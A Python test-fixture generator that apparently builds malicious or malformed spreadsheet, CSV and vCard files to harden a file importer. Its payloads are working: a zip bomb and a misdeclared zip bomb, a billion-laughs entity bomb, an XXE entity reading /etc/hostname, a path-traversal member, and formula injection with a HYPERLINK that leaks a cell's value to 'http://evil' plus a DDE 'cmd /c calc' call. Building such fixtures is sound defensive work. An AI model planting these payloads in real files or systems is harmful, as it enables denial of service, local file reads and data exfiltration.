"""Files that mean harm, or look like it: made small and quickly, each under the name it would come with."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
ROOT_RELATIONS = (
    f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}">'
    f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    f'<?xml version="1.0"?><workbook {MAIN} xmlns:r="{OFFICE}">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets></workbook>'
)
WORKBOOK_RELATIONS = (
    f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}">'
    f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="r3" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>'
)
NO_STRINGS = f"<sst {MAIN}/>"


def cell(reference: str, text: str) -> str:
    """A cell with a text of its own."""
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *cells: str) -> str:
    """A row of cells."""
    return f'<row r="{number}">{"".join(cells)}</row>'


def sheet(rows: str, before: str = "", after: str = "") -> str:
    """A sheet's XML."""
    return f'<?xml version="1.0"?><worksheet {MAIN}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def xlsx(sheet_xml: str, strings: str = NO_STRINGS, **parts: str) -> bytes:
    """A workbook of one sheet, of raw XML; other parts by their names, / as __ and . as _dot_."""
    named = {name.replace("__", "/").replace("_dot_", "."): text for name, text in parts.items()}
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": ROOT_RELATIONS,
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELATIONS,
            "xl/sharedStrings.xml": strings,
            "xl/worksheets/sheet1.xml": sheet_xml,
            **named,
        }.items():
            archive.writestr(name, text)
    return content.getvalue()


def zip_bomb(megabytes: int, declared: int | None = None) -> bytes:
    """A workbook whose sheet inflates to a long run of blanks, whatever size it declares."""
    start = f'<?xml version="1.0"?><worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'.encode()
    end = b"</t></is></c></row></sheetData></worksheet>"
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(start + b" " * (1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the same megabyte gives the same bytes: compressing one of them will do.
    again = deflate.compress(b" " * (1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    data = first + again * (megabytes - 1) + deflate.compress(end) + deflate.flush()
    size = declared if declared is not None else len(start) + (megabytes << 20) + len(end)
    return _with_raw_part(xlsx(sheet(row(1, cell("A1", "x")))), "xl/worksheets/sheet1.xml", data, size)


def _with_raw_part(archive: bytes, name: str, data: bytes, size: int) -> bytes:
    """The archive with one part's compressed bytes and declared size replaced."""
    out, directory = BytesIO(), []
    with zipfile.ZipFile(BytesIO(archive)) as given:
        for info in given.infolist():
            content = given.read(info)
            deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed, length = deflate.compress(content) + deflate.flush(), len(content)
            if info.filename == name:
                packed, length = data, size
            fields = struct.pack(
                "<HHHHHLLLHH", 20, 0, 8, 0, 0, zlib.crc32(content), len(packed), length, len(info.filename), 0
            )
            directory.append(
                b"PK\x01\x02"
                + struct.pack("<H", 20)
                + fields
                + struct.pack("<HHHLL", 0, 0, 0, 0, out.tell())
                + info.filename.encode()
            )
            out.write(b"PK\x03\x04" + fields + info.filename.encode() + packed)
    start = out.tell()
    out.write(b"".join(directory))
    out.write(
        b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, len(directory), len(directory), out.tell() - start, start, 0)
    )
    return out.getvalue()


def _many_members() -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for number in range(60_000):
            archive.writestr(f"n{number}", "")
    return content.getvalue()


def _laughing() -> bytes:
    entities = "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    strings = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "ha">{entities}]><sst {MAIN}><si><t>&j;</t></si></sst>'
    return xlsx(sheet(row(1, '<c r="A1" t="s"><v>0</v></c>')), strings)


def _external_entity() -> bytes:
    strings = (
        '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        f"<sst {MAIN}><si><t>&x;</t></si></sst>"
    )
    return xlsx(sheet(row(1, '<c r="A1" t="s"><v>0</v></c>')), strings)


def _formulas() -> bytes:
    cells = (
        '<c r="A1"><f>HYPERLINK("http://evil/?"&amp;B1,"x")</f><v>5</v></c>',
        "<c r=\"B1\"><f>cmd|'/c calc'!A1</f></c>",
    )
    return xlsx(sheet(row(1, *cells)))


def _strange_numbers() -> bytes:
    cells = (
        '<c r="A1"><v>1e300</v></c>',
        '<c r="B1"><v>-1</v></c>',
        '<c r="C1" t="d"><v>9999-99-99</v></c>',
        '<c r="D1"><v>NaN</v></c>',
    )
    return xlsx(sheet(row(1, *cells)))


OK = xlsx(sheet(row(1, cell("A1", "氏名")) + row(2, cell("A2", "山田"))))


def vcard(lines: bytes) -> bytes:
    """A card of a person with these lines."""
    return b"BEGIN:VCARD\nVERSION:3.0\nFN:A\n" + lines + b"\nEND:VCARD\n"


FILES: dict[str, Callable[[], bytes]] = {
    "ok.xlsx": lambda: OK,
    "corner_cell.xlsx": lambda: xlsx(sheet(row(1, cell("A1", "x")) + row(1048576, cell("XFD1048576", "y")))),
    "corner_rows.xlsx": lambda: xlsx(sheet(row(1, cell("A1", "x")) + row(1048576, cell("CV1048576", "y")))),
    "hidden_corner.xlsx": lambda: xlsx(
        sheet(row(1, cell("A1", "x")) + row(1048576, cell("XFD1048576", "y")) + row(2, cell("A2", "z")))
    ),
    "empty_corner.xlsx": lambda: xlsx(
        sheet(row(1, cell("A1", "x")) + row(9, '<c r="B9" s="1"/>' * 500) + row(1048576, '<c r="XFD1048576" s="1"/>'))
    ),
    "false_dimension.xlsx": lambda: xlsx(sheet(row(1, cell("A1", "x")), '<dimension ref="A1:XFD1048576"/>')),
    "zip_bomb.xlsx": lambda: zip_bomb(1024),
    "lying_zip_bomb.xlsx": lambda: zip_bomb(1024, declared=4096),
    "billion_laughs.xlsx": _laughing,
    "external_entity.xlsx": _external_entity,
    "string_out_of_range.xlsx": lambda: xlsx(sheet(row(1, '<c r="A1" t="s"><v>99999999</v></c>'))),
    "bad_reference.xlsx": lambda: xlsx(sheet(row(1, cell("ZZZZZ99999999999999", "x")))),
    "deep.xlsx": lambda: xlsx(sheet("<x>" * 200_000)),
    "many_columns.xlsx": lambda: xlsx(
        sheet("".join(row(n, "".join(cell("", "x") for _ in range(16384))) for n in range(1, 60)))
    ),
    "traversal.xlsx": lambda: xlsx(sheet(row(1, cell("A1", "x"))), **{"../../../../pwn.txt": "x"}),
    "formulas.xlsx": _formulas,
    "control_characters.xlsx": lambda: xlsx(sheet(row(1, cell("A1", "a_x0000_b&#9;c"), cell("B1", "_x202E_gpj.exe")))),
    "strange_numbers.xlsx": _strange_numbers,
    "truncated.xlsx": lambda: OK[:400],
    "html_as.xls": lambda: b"<table><tr><td>a</td></tr></table>",
    "not_really_encrypted.xlsx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
    "empty.xlsx": lambda: b"",
    "random.xls": lambda: random.Random(11).randbytes(60_000),
    "many_members.xlsx": _many_members,
    "one_line.csv": lambda: b"a" * (64 << 20),
    "open_quote.csv": lambda: b'name,tel\n"' + b"x,1\n" * 500_000,
    "short_open_quote.csv": lambda: b'name,tel\na,1\nb,"2\nc,3\nd,4\n',
    "nul.csv": "氏名,電話\n山\0田,1\n".encode,
    "broken_sjis.csv": lambda: "氏名\n髙橋\n".encode("cp932") + b"\x81\n\xff\xfe\n",
    "utf16.csv": lambda: "氏名,tel\n山田,1\n".encode("utf-16"),
    "million_columns.csv": lambda: b"," * 1_000_000 + b"\n",
    "million_filled_columns.csv": lambda: b"1," * 500_000 + b"\n",
    "one_line.vcf": lambda: vcard(b"NOTE:" + b"a" * (64 << 20)),
    "endless_folding.vcf": lambda: vcard(b"NOTE:a\n" + b" b\n" * 4_000_000),
    "endless_soft_breaks.vcf": lambda: vcard(b"NOTE;QUOTED-PRINTABLE:=\n" + b"=\n" * 4_000_000 + b"."),
    "endless_cards.vcf": lambda: b"BEGIN:VCARD\n" * 500_000,
    "endless_agents.vcf": lambda: vcard(b"AGENT:\nBEGIN:VCARD\n" * 100_000),
    "open_quotes.vcf": lambda: vcard(b'TEL;X="' * 100_000 + b"\n" + b'TEL;X="y:1\n' * 200_000),
    "many_fields.vcf": lambda: b"".join(vcard(b"X-SMALLCRM:custom:%d;x\n" % n) for n in range(20_000)),
    "strange_charset.vcf": lambda: vcard("NOTE;CHARSET=unicode_escape:\\ud800 あ\nNOTE;CHARSET=zip:い".encode()),
    "long_number.csv": lambda: b"n\n" + b"9" * 5000 + b"\n",
}


def write_all(folder: Path) -> None:
    """All of them, into a folder."""
    for name, make in FILES.items():
        (folder / name).write_bytes(make())


if __name__ == "__main__":
    import sys

    write_all(Path(sys.argv[1]))
